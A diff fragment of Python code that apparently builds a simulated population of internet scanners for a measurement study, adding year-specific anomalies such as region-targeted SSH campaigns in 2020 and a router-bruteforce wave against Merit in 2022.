+            strategy=TargetStrategy(coverage=CoverageModel(0.6)),
+            plans=(
+                PortPlan(22, "ssh", 2.0, credential_dialect="global-ssh",
+                         credential_attempts=(2, 5), banner_only_fraction=0.1),
+            ),
+        )
+
+
+def _add_year_anomalies(factory: _SpecFactory, config: PopulationConfig) -> None:
+    """One-off anomalous events that differ across years (Appendix C).
+
+    2020: targeted SSH campaigns inside single US/EU regions (Table 13's
+    lower US/EU SSH similarity).  2022: a router-bruteforce wave that hits
+    Merit but avoids Stanford (Appendix C.2's medium-effect anomaly).
+    """
+    hosting = factory.cycle(HOSTING_ASES)
+    if config.year == 2020:
+        for region_code in ("US-OR", "US-CA", "EU-DE", "EU-FR", "US-NV", "EU-GB"):
+            factory.add(
+                f"ssh-anomaly-{region_code.lower()}",
+                next(hosting),
+                num_sources=10,
+                malicious=True,
+                strategy=TargetStrategy(
+                    coverage=CoverageModel(1.0),
+                    exclusive_regions=(region_code,),
+                    kind_weights=NO_TELESCOPE,
+                ),
+                plans=(
+                    PortPlan(22, "ssh", 14.0,
+                             credential_dialect="router-bruteforce",
+                             credential_attempts=(3, 8)),
+                ),
+            )
+    if config.year == 2022:
+        factory.add(
+            "router-bruteforce-merit",
+            next(hosting),
+            num_sources=20,
+            malicious=True,
+            strategy=TargetStrategy(
+                coverage=CoverageModel(1.0),
+                exclusive_networks=("merit",),
+            ),
+            plans=(
+                PortPlan(80, "http", 10.0,
+                         http_payloads=("post-login-bruteforce",), http_weights=(1.0,)),
+                PortPlan(23, "telnet", 8.0,
+                         credential_dialect="router-bruteforce",
+                         credential_attempts=(3, 8)),
+            ),
+        )
+
+
+def build_population(config: PopulationConfig | None = None) -> list[ScannerSpec]:
+    """Build the full scanner population for a measurement year."""
+    config = config or PopulationConfig()
+    factory = _SpecFactory()
+    _add_search_engine_crawlers(factory)
+    _add_background_unknown(factory, config)
+    _add_telnet_botnets(factory, config)
+    _add_ssh_attackers(factory, config)
+    _add_http_campaigns(factory, config)
+    _add_search_engine_attackers(factory, config)
+    _add_unexpected_protocol_probers(factory, config)
+    _add_structure_scanners(factory, config)
+    _add_port_service_seekers(factory, config)
+    _add_edu_regional_scanners(factory, config)
+    _add_udp_scanners(factory, config)
+    _add_evasive_attackers(factory, config)
+    _add_year_anomalies(factory, config)
+    return factory.specs
